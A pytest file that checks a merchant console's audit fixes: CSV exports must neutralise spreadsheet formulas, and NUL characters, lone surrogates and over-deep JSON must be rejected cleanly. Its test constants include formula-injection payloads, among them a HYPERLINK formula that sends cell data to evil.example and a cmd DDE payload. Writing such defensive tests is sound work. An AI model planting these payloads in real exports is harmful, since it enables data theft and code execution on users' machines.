"""The second outside audit (docs/security.md): text typed by others — formulas in the console's CSV files, and NUL
characters, which PostgreSQL's text cannot hold (they answered 500 there; SQLite stored them)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from tests.console_support import PASSWORD, csrf_token, form_post, make_user
from tests.hostile import row_counts
from tests.integration.test_api import auth, credit
from tests.woo import connect_for_tests, order_body, post_delivery

pytest_plugins = ("tests.console_fixtures",)  # fixtures: merchant, console

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "woocommerce"
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&B2,"Details")'
FORMULA_EMAIL = "@SUM(1+1)@evil.example"
FORMULA_REASON = "=cmd|' /C calc'!A0"
FORMULA_CUSTOMER = "+SUM(1+1)"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def _formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run: starting with a formula character and not a plain number."""
    found = []
    for row in rows:
        for value in row:
            if value.startswith(FORMULA_START):
                try:
                    float(value)
                except ValueError:
                    found.append(value)
    return found


def test_csv_exports_never_hand_a_spreadsheet_a_formula(client, services, shop, console):
    """A customer named `=HYPERLINK(…)` at the shop's sign-up (a signed webhook), a reason and a customer id from
    the API: every CSV of the console writes them as text (a leading '), and a debit stays the number -2.00."""
    connect_for_tests(services, shop.shop.id)
    customer = json.loads((FIXTURES / "customer.json").read_text())
    customer.update(id=777, first_name=FORMULA_NAME, last_name="", email=FORMULA_EMAIL)
    assert post_delivery(client, shop.shop.id, "customer.created", customer).status_code == 200
    for who, key in (("777", "f-1"), (FORMULA_CUSTOMER, "f-2")):
        credit = {"direction": "credit", "amount": 500, "reason": FORMULA_REASON}
        assert (
            client.post(f"/api/v1/customers/{who}/adjustments", json=credit, headers=auth(shop, key)).status_code == 201
        )
    debit = {"direction": "debit", "amount": 200, "reason": "-1+1"}
    assert client.post("/api/v1/customers/777/adjustments", json=debit, headers=auth(shop, "f-3")).status_code == 201

    base = f"/shops/{shop.shop.id}"
    files = {
        name: _cells(client.get(f"{base}/exports/{name}.csv"))
        for name in ("balances", "transactions", "journal", "liability")
    }
    files["statement"] = _cells(client.get(f"{base}/customers/777/statement.csv"))
    for name in ("wallet", "usage", "points", "liability", "reconciliation"):
        files[f"report {name}"] = _cells(client.get(f"{base}/reports/{name}.csv"))

    assert {name: _formulas(rows) for name, rows in files.items() if _formulas(rows)} == {}
    written = {value for rows in files.values() for row in rows for value in row}
    assert {f"'{FORMULA_NAME}", f"'{FORMULA_EMAIL}", f"'{FORMULA_REASON}", f"'{FORMULA_CUSTOMER}", "'-1+1"} <= written
    assert "-2.00" in {row[5] for row in files["statement"]}  # amounts stay numbers


# NUL characters ---------------------------------------------------------------------------------------------

NUL = "a\x00b"
API_CASES = [  # (method, path, JSON body, the field named)
    ("post", "/customers/42/adjustments", {"direction": "credit", "amount": 100, "reason": NUL}, "reason"),
    ("post", "/customers/a%00b/adjustments", {"direction": "credit", "amount": 100, "reason": "r"}, "customer_id"),
    ("get", "/customers/a%00b/wallet", None, "customer_id"),
    ("get", "/customers/42/transactions?cursor=%00", None, "cursor"),
    ("post", "/customers/42/holds", {"amount": 100, "reason": NUL}, "reason"),
    ("post", "/customers/42/holds", {"amount": 100, "reason": "r", "order_id": NUL}, "order_id"),
    ("post", "/orders/o%00/reservation", {"customer_id": "42", "amount": 100}, "order_id"),
    ("post", "/orders/o1/reservation", {"customer_id": NUL, "amount": 100}, "customer_id"),
    ("delete", "/orders/o%00/reservation", None, "order_id"),
    ("post", "/orders/o%00/refunds", {"amount": 100, "destination": "wallet", "reason": "r"}, "order_id"),
    ("post", "/customers/42/adjustments", {"direction": "credit", "amount": 100, "reason": "r", "x\x00": 1}, "x\\0"),
]


@pytest.mark.parametrize(("method", "path", "body", "field"), API_CASES)
def test_a_nul_character_in_an_api_field_is_a_422_naming_it(client, services, shop, method, path, body, field):
    assert credit(client, shop).status_code == 201
    before = row_counts(services)
    headers = auth(shop, "nul-1")
    response = getattr(client, method)(f"/api/v1{path}", json=body, headers=headers)
    assert response.status_code == 422, response.get_data(as_text=True)
    assert response.get_json()["error"]["fields"] == {field: "contains a NUL character"}
    assert row_counts(services) == before


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/customers/42/adjustments", {"direction": "credit", "amount": 100, "reason": "a\ud800b"}, "reason"),
        ("/customers/42/holds", {"amount": 100, "reason": "r", "order_id": "\udfff"}, "order_id"),
        ("/orders/o1/reservation", {"customer_id": "\ud800", "amount": 100}, "customer_id"),
    ],
)
def test_a_lone_surrogate_in_json_is_a_422_naming_the_field(client, services, shop, path, body, field):
    """`"\\ud800"` is valid JSON but no character: it cannot be written as UTF-8 (a 500 on both databases)."""
    assert credit(client, shop).status_code == 201
    before = row_counts(services)
    response = client.post(f"/api/v1{path}", json=body, headers=auth(shop, "sur-1"))
    assert response.status_code == 422, response.get_data(as_text=True)
    assert response.get_json()["error"]["fields"] == {field: "is not valid Unicode (a lone surrogate)"}
    assert row_counts(services) == before


def test_a_json_body_nested_too_deep_is_a_422_not_a_500(client, services, shop):
    """`[[[[…]]]]` deeper than Python's parser goes: a RecursionError, once an internal error."""
    deep = "[" * 100_000 + "]" * 100_000
    body = f'{{"direction": "credit", "amount": 100, "reason": {deep}}}'
    headers = {**auth(shop, "deep-1"), "Content-Type": "application/json"}
    response = client.post("/api/v1/customers/42/adjustments", data=body, headers=headers)
    assert response.status_code == 422, response.get_data(as_text=True)[:300]
    assert response.get_json()["error"]["fields"] == {"body": "nested too deep"}


def test_a_nul_character_in_a_console_field_is_refused_with_nothing_written(client, services, shop):
    """Signing in (before any account is known), searching, a customer's pages, the team and new-shop forms."""
    make_user(services, shop.shop.id)
    token = csrf_token(client)
    signing_in = client.post("/login", data={"csrf_token": token, "email": NUL, "password": "x"})
    assert signing_in.status_code == 422 and "email contains a NUL character" in signing_in.get_data(as_text=True)
    assert client.post("/login", data={"csrf_token": token, "email": "ann@example.com", "password": PASSWORD})
    before = row_counts(services)
    base = f"/shops/{shop.shop.id}"
    pages = [f"{base}/customers?q=%00", f"{base}/customers/a%00b", f"{base}/customers/a%00b/statement.csv"]
    for page in pages:
        assert client.get(page).status_code == 422, page
    forms = {
        f"{base}/team": {"email": "bob@example.com", "name": NUL, "password": "a long enough password"},
        "/shops/new": {"shop_name": NUL, "platform": "woocommerce", "url": "https://x.example", "currency": "EUR"},
        f"{base}/customers/a%00b/adjust": {"direction": "credit", "amount": "1", "reason": "r"},
    }
    for url, data in forms.items():
        assert form_post(client, url, data, token_from=f"{base}/settings").status_code == 422, url
    assert row_counts(services) == before


def test_a_delivery_with_unstorable_characters_in_its_text_moves_its_money(client, services, shop):
    """A customer's name (typed at the shop) with a NUL or a lone surrogate in it: the character is dropped, the
    order is applied."""
    connect_for_tests(services, shop.shop.id)
    order = order_body()
    order["billing"] = {**order["billing"], "first_name": NUL, "last_name": "\ud800", "email": "nul\x00@example.com"}
    order["customer_note"] = NUL
    response = post_delivery(client, shop.shop.id, "order.created", order)
    assert response.status_code == 200 and response.get_json()["status"] != "failed", response.get_json()
